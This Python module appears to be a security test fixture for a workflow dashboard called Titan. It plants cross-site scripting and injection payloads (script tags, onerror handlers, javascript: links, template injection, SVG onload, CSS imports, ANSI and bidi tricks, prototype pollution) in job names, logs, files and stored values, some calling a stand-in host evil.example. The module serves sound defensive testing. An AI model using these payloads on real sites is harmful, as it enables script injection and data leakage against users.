"""Everything that a page might take for its own code, planted wherever somebody other than Titan chooses the text.

Whatever of it ran would set ``window.hacked``, open a dialog, ask for something elsewhere or break the page's
content security policy; a screen's witness notices all but the first.
"""

import json
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

from titan_sdk import TitanClient, TitanJob
from titan_sdk.cluster.kube import Kube

ELSEWHERE = "https://evil.example"
SCRIPT = "<script>window.hacked=1;alert(1)</script>"
IMAGE = f"<img src=x onerror=\"window.hacked=2;fetch('{ELSEWHERE}/a')\">"
FRAME = f"<iframe srcdoc='<script>parent.hacked=3</script>' src={ELSEWHERE}/f></iframe>"
STYLE = f"<style>@import url({ELSEWHERE}/s.css);body{{display:none}}</style><base href={ELSEWHERE}/>"
LINK = "[click me](javascript:window.hacked=4) <a href='javascript:window.hacked=5'>or me</a>"
PICTURE = f"![tracker]({ELSEWHERE}/pixel.png) ![x](data:text/html,<script>window.hacked=6</script>)"
TEMPLATE = "{{constructor.constructor('window.hacked=7')()}} ${window.hacked=8}"
ANSI = "\x1b[31mred\x1b[0m \x1b]8;;javascript:window.hacked=9\x07link\x1b]8;;\x07 \x1b[2J\x1b[H\x07"
BIDI = "\u202egpj.tpircs\u202c \u2066hidden\u2069 \u200b\ufeff"
MARKUP = f"{SCRIPT}{IMAGE}{FRAME}"
MARKDOWN = f"# Heading\n\n{MARKUP}\n\n{LINK}\n\n{PICTURE}\n\n{STYLE}\n\n{TEMPLATE}\n"
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='window.hacked=10;parent.hacked=10'>"
    f"<script>window.hacked=11</script><image href='{ELSEWHERE}/p.png'/><text y='20'>svg</text></svg>"
)
HTML = f"<!doctype html><meta http-equiv=refresh content='0;url={ELSEWHERE}'>{MARKUP}{STYLE}"
NAME = f"<img src=x onerror=window.hacked=12>{BIDI}"
"""Short enough for every name."""
SET = f"set:{NAME}"

PRINTING = """
import sys
from pathlib import Path
for line in {lines!r}:
    print(line)
    print(line, file=sys.stderr)
Path({html_name!r}).write_text({html!r})
Path("page.html").write_text({html!r})
Path("picture.svg").write_text({svg!r})
Path("notes.md").write_text({markdown!r})
sys.exit({code})
"""


@dataclass(frozen=True)
class Planted:
    """Where the seeds lie."""

    dag: str
    job: str
    gate: str
    run_id: str

    def routes(self, namespace: str) -> list[str]:
        """Every page that shows something of it."""
        dag = f"/dags/{namespace}/{self.dag}"
        panel = f"{dag}?job={quote(self.job)}"
        tabs = ("log", "attempts", "events", "details", "files", "yaml")
        return [
            "/",
            "/dags",
            dag,
            *(f"{dag}?view={view}" for view in ("jobs", "timeline", "files", "yaml")),
            panel,
            *(f"{panel}&tab={tab}" for tab in tabs),
            "/runs",
            f"/runs/{namespace}/{quote(self.run_id, safe='')}",
            "/files",
            *(f"/files?namespace={namespace}&file={quote(name, safe='')}" for name, _ in files()),
            "/store",
            *(f"/store?namespace={namespace}&key={quote(key, safe='')}" for key, _ in values()),
            f"/store?namespace={namespace}&tab=sets&key={quote(SET, safe='')}",
            "/approvals",
            "/approvals?tab=history",
            f"/approvals/{namespace}/{self.gate}",
            "/services",
        ]


def sow(client: TitanClient, kube: Kube, directory: Path) -> Planted:
    """Plant it all: names, ids, messages, comments, logs, files, keys, values, run ids, arguments, variables."""
    run_id = f"run/{NAME}"
    dag = client.submit_dag(
        f"{NAME}{SCRIPT}",
        [
            _job("gated", 0, hitl_message=MARKDOWN, approvers=[f"{NAME}@evil"]),
            _job("failing", 3, retries=0),
            _job("behind", 0, parents=[_job_id("gated")]),
        ],
        agent_run_id=run_id,
    )
    comments = [{"user": NAME, "time": "2026-01-01T00:00:00Z", "text": MARKDOWN[:1000]}]
    kube.patch("titandags", dag.name, {"metadata": {"annotations": {"titan.io/comments": json.dumps(comments)}}})
    for key, value in values():
        client.store_put(key, value)
    client.store_sadd(SET, MARKUP)
    for name, content in files():
        path = directory / "content"
        path.write_text(content)
        client.files.upload(path, name)
    job = next(job.name for job in client.list_jobs(dag=dag.name) if job.job_id == _job_id("gated"))
    return Planted(dag.name, job, job, run_id)


def _job_id(word: str) -> str:
    return f"{word}{NAME}"


def _job(word: str, code: int, **options: object) -> TitanJob:
    content = PRINTING.format(
        lines=["x" * 20_000, LINK, STYLE, TEMPLATE, ANSI, BIDI, MARKUP],  # The last one becomes a message.
        html_name=f"{NAME}.html".replace("/", "_"),
        html=HTML,
        svg=SVG,
        markdown=MARKDOWN,
        code=code,
    )
    return TitanJob(
        _job_id(word),
        f"{word}.py",
        args=[MARKUP, ANSI],
        env={"HOSTILE": MARKUP, "ANSI": BIDI},
        script_content=content,
        **options,
    )


def values() -> Sequence[tuple[str, str]]:
    """By key."""
    return [
        (f"value:{NAME}", MARKUP),
        ("value:markdown", MARKDOWN),
        ("value:json", json.dumps({NAME: [MARKUP, LINK], "__proto__": {"hacked": 13}})),
        ("value:ansi", ANSI + BIDI),
    ]


def files() -> Sequence[tuple[str, str]]:
    """By name."""
    return [
        (f"{NAME}.html", HTML),
        ("hostile/page.html", HTML),
        ("hostile/picture.svg", SVG),
        ("hostile/notes.md", MARKDOWN),
        ("hostile/data.json", json.dumps({NAME: MARKUP})),
        ("hostile/words.txt", MARKUP + ANSI + BIDI),
    ]
